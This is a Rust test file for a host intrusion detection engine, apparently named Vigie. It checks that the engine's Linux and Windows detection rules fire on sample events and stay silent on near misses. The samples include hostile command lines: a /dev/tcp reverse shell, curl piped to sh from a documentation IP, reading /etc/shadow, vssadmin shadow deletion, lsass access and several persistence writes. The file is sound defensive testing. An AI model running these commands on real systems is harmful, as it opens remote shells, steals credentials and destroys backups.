//! Vigie's own rule pack (`rules/`): every rule loads, has the metadata we
//! promise, fires on its test event and not on a near miss.

mod common;

use std::collections::BTreeMap;
use std::path::Path;

use common::record;
use serde_json::json;
use vigie_detect::{Engine, RuleStatus};
use vigie_event::{
    Event, File, FileAction, FileEvent, Host, KernelAction, KernelDetail, KernelEvent, LogSource,
    Payload, Process, ProcessAction, ProcessEvent, ProcessSummary, User,
};

/// Discovery commands of the "Discovery Command" rule (five make a burst).
const DISCOVERY_TOOLS: [&str; 8] = [
    "/usr/bin/whoami",
    "/usr/bin/id",
    "/usr/bin/uname",
    "/usr/bin/hostname",
    "/usr/sbin/ip",
    "/usr/bin/ps",
    "/usr/bin/w",
    "/usr/bin/last",
];

fn rules_dir() -> std::path::PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules")
}

fn exec(exe: &str, cmdline: &str, parent: &str, ppid: u32, secs: i64) -> Event {
    Event::new(
        common::at(secs),
        Host::named("srv1"),
        Payload::Process(ProcessEvent {
            action: ProcessAction::Exec,
            process: Process {
                pid: 4000 + secs as u32,
                name: exe.rsplit('/').next().unwrap_or(exe).into(),
                executable: exe.into(),
                command_line: cmdline.into(),
                user: Some(User {
                    id: Some("1000".into()),
                    name: Some("alice".into()),
                    domain: None,
                }),
                parent: Some(std::sync::Arc::new(ProcessSummary {
                    pid: ppid,
                    executable: parent.into(),
                    ..ProcessSummary::default()
                })),
                ..Process::default()
            },
            target: None,
            error: None,
        }),
    )
}

fn exec_flags(memfd: bool, deleted: bool) -> Event {
    let mut e = exec("/tmp/x", "/tmp/x", "/bin/bash", 1, 0);
    if let Payload::Process(p) = &mut e.payload {
        p.process.vigie.exe_memfd = memfd;
        p.process.vigie.exe_deleted = deleted;
        if memfd {
            p.process.executable = "/memfd:payload (deleted)".into();
        }
    }
    e
}

fn file(action: FileAction, path: &str, image: &str, setuid: bool) -> Event {
    let mut f = File::at(path);
    f.vigie.setuid = setuid;
    Event::new(
        common::at(0),
        Host::named("srv1"),
        Payload::File(FileEvent {
            action,
            file: f,
            process: Process {
                pid: 77,
                executable: image.into(),
                command_line: image.into(),
                ..Process::default()
            },
        }),
    )
}

fn module(name: &str, image: &str) -> Event {
    Event::new(
        common::at(0),
        Host::named("srv1"),
        Payload::Kernel(KernelEvent {
            action: KernelAction::ModuleLoad,
            detail: KernelDetail {
                name: name.into(),
                ..KernelDetail::default()
            },
            process: Process {
                pid: 9,
                executable: image.into(),
                ..Process::default()
            },
        }),
    )
}

fn win(category: &'static str, fields: serde_json::Value) -> Event {
    record(
        LogSource::new(Some("windows"), Some(category), Some("sysmon")),
        fields,
        0,
    )
}

/// Rule id → (an event that fires it, a near miss).
fn cases() -> BTreeMap<&'static str, (Vec<Event>, Vec<Event>)> {
    let one = |hit: Event, miss: Event| (vec![hit], vec![miss]);
    let mut c = BTreeMap::new();
    c.insert(
        "a57b6250-3cb8-494c-a4df-6aa74d5601a3",
        one(
            exec(
                "/bin/sh",
                "sh -c echo ZWNobyBoaQ== | base64 -d | sh",
                "/usr/sbin/cron",
                1,
                0,
            ),
            exec(
                "/bin/sh",
                "sh -c echo ZWNobyBoaQ== | base64 -d > out.txt",
                "/usr/sbin/cron",
                1,
                0,
            ),
        ),
    );
    c.insert(
        "5fe95af8-ab02-40f4-b6f2-4427146c64ac",
        one(
            exec(
                "/bin/bash",
                "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "/usr/bin/php",
                1,
                0,
            ),
            exec(
                "/bin/bash",
                "bash -c cat /proc/net/tcp",
                "/usr/bin/php",
                1,
                0,
            ),
        ),
    );
    c.insert(
        "daa2314e-e5a2-408c-884a-2f0c98ca345b",
        one(
            exec(
                "/bin/sh",
                "sh -c curl -fsSL http://203.0.113.7/x | sh",
                "/usr/sbin/apache2",
                1,
                0,
            ),
            exec(
                "/bin/sh",
                "sh -c curl -fsSL http://203.0.113.7/x -o x.tar",
                "/usr/sbin/apache2",
                1,
                0,
            ),
        ),
    );
    c.insert(
        "ccc99636-c4d9-4c75-8fce-88789cc87453",
        one(
            exec("/usr/bin/cat", "cat /etc/shadow", "/bin/bash", 1, 0),
            exec(
                "/usr/bin/passwd",
                "passwd --stdin /etc/shadow",
                "/bin/bash",
                1,
                0,
            ),
        ),
    );
    c.insert(
        "b1521d3f-a8e8-4dac-8f1b-f7c51d1c9301",
        one(
            file(
                FileAction::Write,
                "/etc/cron.d/update",
                "/usr/bin/tee",
                false,
            ),
            file(
                FileAction::Write,
                "/etc/cron.d/update",
                "/usr/bin/dpkg",
                false,
            ),
        ),
    );
    c.insert(
        "e9f0cfaf-d202-4b60-bed1-671265ebba6b",
        one(
            file(
                FileAction::Create,
                "/etc/systemd/system/updater.service",
                "/usr/bin/cp",
                false,
            ),
            file(
                FileAction::Create,
                "/etc/systemd/system/updater.conf",
                "/usr/bin/cp",
                false,
            ),
        ),
    );
    c.insert(
        "7275d84b-db21-44e5-9e9e-4a7274680e8b",
        one(
            file(
                FileAction::Write,
                "/root/.ssh/authorized_keys",
                "/usr/bin/bash",
                false,
            ),
            file(
                FileAction::Write,
                "/root/.ssh/known_hosts",
                "/usr/bin/ssh",
                false,
            ),
        ),
    );
    c.insert(
        "68499e90-8283-4158-8ee0-6a1c3ce9513d",
        one(
            file(FileAction::Chmod, "/tmp/.x/bash", "/usr/bin/chmod", true),
            file(
                FileAction::Chmod,
                "/usr/local/bin/tool",
                "/usr/bin/chmod",
                true,
            ),
        ),
    );
    c.insert(
        "4b4a2831-f16e-4d5c-bc6c-0126025c5916",
        (
            vec![exec_flags(true, false), exec_flags(false, true)],
            vec![exec_flags(false, false)],
        ),
    );
    c.insert(
        "a18fe369-4e97-4ee9-b7c7-4bb8aecdc86c",
        one(
            module("diamorphine", "/usr/sbin/insmod"),
            module("nf_tables", "/usr/lib/systemd/systemd-modules-load"),
        ),
    );
    // The correlation: five different discovery tools under one parent.
    let tools = &DISCOVERY_TOOLS[..5];
    let burst: Vec<Event> = tools
        .iter()
        .enumerate()
        .map(|(i, t)| exec(t, t, "/bin/bash", 555, i as i64 * 10))
        .collect();
    // Same tools, but spread over more than two minutes.
    let slow: Vec<Event> = tools
        .iter()
        .enumerate()
        .map(|(i, t)| exec(t, t, "/bin/bash", 555, i as i64 * 40))
        .collect();
    c.insert("bff4c20d-3c92-4163-967a-0d60d13f052f", (burst, slow));
    c.insert(
        "d6b400ec-128a-4b7b-b1bd-e451a4a13d27",
        one(
            win("process_creation", json!({"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"})),
            win("process_creation", json!({"ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "Image": "C:\\Windows\\splwow64.exe"})),
        ),
    );
    c.insert(
        "373b383a-bb0a-4181-b775-c2a10991790e",
        one(
            win("process_creation", json!({"Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin.exe Delete Shadows /All /Quiet"})),
            win("process_creation", json!({"Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin.exe list shadows"})),
        ),
    );
    c.insert(
        "2b23d316-6978-41b1-a1e2-e8b40ffc9d49",
        one(
            win("process_access", json!({"TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010", "SourceImage": "C:\\Users\\bob\\Downloads\\dump.exe"})),
            win("process_access", json!({"TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1010", "SourceImage": "C:\\Windows\\System32\\svchost.exe"})),
        ),
    );
    c.insert(
        "d9da7786-5d20-4015-a209-a7b380cf24cd",
        one(
            win("registry_set", json!({"TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "Details": "C:\\Users\\bob\\AppData\\Roaming\\upd.exe"})),
            win("registry_set", json!({"TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "Details": "C:\\Program Files\\Vendor\\upd.exe"})),
        ),
    );
    c
}

#[test]
fn pack_loads_with_metadata() {
    let (_engine, report) = Engine::load(&[rules_dir()]);
    let problems: Vec<String> = report.problems().map(|p| p.to_string()).collect();
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    assert!(report.total() >= cases().len());
    let mut texts = Vec::new();
    for entry in walkdir::WalkDir::new(rules_dir()) {
        let entry = entry.unwrap();
        if entry.path().extension().is_some_and(|e| e == "yml") {
            texts.push(std::fs::read_to_string(entry.path()).unwrap());
        }
    }
    for r in &report.rules {
        let id = r.id.as_deref().unwrap_or_else(|| panic!("{r}: no id"));
        assert!(uuid::Uuid::parse_str(id).is_ok(), "{r}: id is not a UUID");
    }
    // Our own rules (not rules/vpn, written separately) promise more.
    for id in cases().keys() {
        let text = texts
            .iter()
            .find(|t| t.contains(id))
            .unwrap_or_else(|| panic!("rule {id} not in rules/"));
        let doc = text
            .split("\n---\n")
            .find(|d| d.contains(&format!("id: {id}")))
            .unwrap();
        for key in [
            "description:",
            "level:",
            "falsepositives:",
            "attack.t",
            "license: Apache-2.0",
        ] {
            assert!(doc.contains(key), "rule {id} lacks {key}");
        }
    }
}

#[test]
fn every_rule_fires_on_its_event_and_not_on_a_near_miss() {
    let (engine, report) = Engine::load(&[rules_dir()]);
    let loaded: Vec<String> = report
        .rules
        .iter()
        .filter(|r| {
            r.status == RuleStatus::Loaded
                && (r.path.contains("/rules/linux/") || r.path.contains("/rules/windows/"))
        })
        .filter_map(|r| r.id.clone())
        .collect();
    let cases = cases();
    let mut failures = Vec::new();
    for id in &loaded {
        if !cases.contains_key(id.as_str()) && id != "e75be7c4-d8b9-46c0-81fc-117e6886a801" {
            failures.push(format!("{id}: no test case"));
        }
    }
    for (id, (hits, misses)) in &cases {
        let fired = |events: &[Event]| {
            let mut d = engine.detector();
            let mut last = Vec::new();
            let mut any = false;
            for e in events {
                last = d.process(e);
                any |= last.iter().any(|a| a.rule.id == *id);
            }
            (any, last)
        };
        // Single-event rules: each hit fires on its own.
        if hits.len() > 1 && *id != "bff4c20d-3c92-4163-967a-0d60d13f052f" {
            for h in hits {
                if !fired(std::slice::from_ref(h)).0 {
                    failures.push(format!("{id}: did not fire"));
                }
            }
        } else {
            let (_, last) = fired(hits);
            if !last.iter().any(|a| a.rule.id == *id) {
                failures.push(format!(
                    "{id}: did not fire, got {:?}",
                    last.iter().map(|a| &a.rule.name).collect::<Vec<_>>()
                ));
            }
        }
        if fired(misses).0 {
            failures.push(format!("{id}: fired on its near miss"));
        }
    }
    assert!(failures.is_empty(), "\n{}", failures.join("\n"));
}

/// A correlation fires once per group and window (the pack's rules set
/// `rsigma.suppress` to their timespan): eight discovery tools in a row
/// give one "Discovery Burst", not four; after the window, a new burst
/// fires again.
#[test]
fn correlations_fire_once_per_window() {
    let (engine, _) = Engine::load(&[rules_dir()]);
    let mut d = engine.detector();
    let mut count = |from: i64| {
        DISCOVERY_TOOLS
            .iter()
            .enumerate()
            .flat_map(|(i, t)| d.process(&exec(t, t, "/bin/bash", 555, from + i as i64)))
            .filter(|a| a.rule.name == "Discovery Burst")
            .count()
    };
    assert_eq!(count(0), 1, "one alert for one burst");
    assert_eq!(count(600), 1, "a burst ten minutes later is new");
}
